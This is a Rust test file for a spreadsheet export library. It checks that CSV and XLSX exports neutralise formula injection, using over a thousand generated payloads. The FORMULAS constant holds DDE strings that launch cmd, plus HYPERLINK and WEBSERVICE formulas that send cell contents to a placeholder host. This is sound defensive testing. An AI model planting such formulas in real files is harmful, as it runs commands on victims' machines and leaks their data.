//! I6: whatever stands in a cell, no spreadsheet program runs it. What our reader makes of a file is not asked here.

use std::collections::BTreeSet;

use daicho::ExportPage;
use daicho_sheets::{Cell, Encoding, Limits, SheetError, export_csv, export_xlsx};

use crate::read;

const SIGNS: [&str; 11] = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n"];

const BEFORE: [&str; 20] = [
    "",
    " ",
    "\u{3000}",
    "\u{a0}",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "'",
    "\"",
    "''",
    "\"\"",
    "\u{200b}",
    "\u{feff}",
    "\u{200e}",
    "\u{202e}",
    "\u{ad}",
    "\u{2060}\u{3164}",
    " \"'",
    "\u{180e}\u{b}",
];

const FORMULAS: [&str; 8] = [
    "1+1",
    "cmd|'/C calc'!A0",
    "SUM(1+1)*cmd|' /C calc'!A0",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "HYPERLINK(\"http://x.example/?\"&A1,\"開く\")",
    "WEBSERVICE(\"http://x.example/\"&A1)",
    "A1;=1+1",
    "1\r\n=1+1,=2",
];

fn payloads() -> Vec<String> {
    let all = BEFORE
        .iter()
        .flat_map(|before| SIGNS.iter().flat_map(move |sign| FORMULAS.iter().map(move |text| [*before, *sign, *text].concat())));
    all.collect::<BTreeSet<_>>().into_iter().collect()
}

fn page(texts: &[String]) -> Result<ExportPage, SheetError> {
    let rows: Vec<_> = texts.iter().map(|text| vec![Cell::number("1"), Cell::text(text), Cell::text(format!("あ{text}"))]).collect();
    let total = rows.len().try_into().unwrap();
    Ok(ExportPage { heading: ["番号", "=危険", "安全"].map(str::to_owned).to_vec(), rows, total, cursor: None, sequence: 0 })
}

// What spreadsheet programs and those who clean files before them take off: white space, quotation marks, and what nobody can see.
fn begins(field: &str) -> Option<char> {
    let dropped = |c: char| {
        c.is_whitespace() || c.is_control() || c == '"' || "\u{200b}\u{feff}\u{200e}\u{202e}\u{ad}\u{2060}\u{3164}\u{180e}".contains(c)
    };
    field.chars().find(|c| !dropped(*c))
}

#[test]
fn i6_no_field_of_csv_begins_like_a_formula() {
    let payloads = payloads();
    assert!(payloads.len() >= 1_000, "{}", payloads.len());
    let bytes = export_csv(Encoding::Utf8, |_| page(&payloads)).unwrap();
    let bytes = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes);
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), payloads.len() + 1);
    for field in rows.iter().flatten() {
        assert!(!begins(field).is_some_and(|c| "=+-@＝＋－＠".contains(c)) && !field.starts_with(['\t', '\r', '\n']), "{field:?}");
    }
    for (row, payload) in rows[1..].iter().zip(&payloads) {
        assert_eq!(row[1].strip_prefix('\'').unwrap(), payload);
        assert_eq!(row[2], format!("あ{payload}"));
    }
}

#[test]
fn i6_every_payload_reads_as_it_was() {
    let payloads = payloads();
    for file in [export_csv(Encoding::Utf8, |_| page(&payloads)).unwrap(), export_xlsx("顧客", |_| page(&payloads)).unwrap()] {
        let rows = read(&file, &Limits::default()).unwrap();
        let texts: Vec<&str> = rows[1..].iter().map(|row| row.cells[1].shown()).collect();
        assert_eq!(texts, payloads);
    }
}
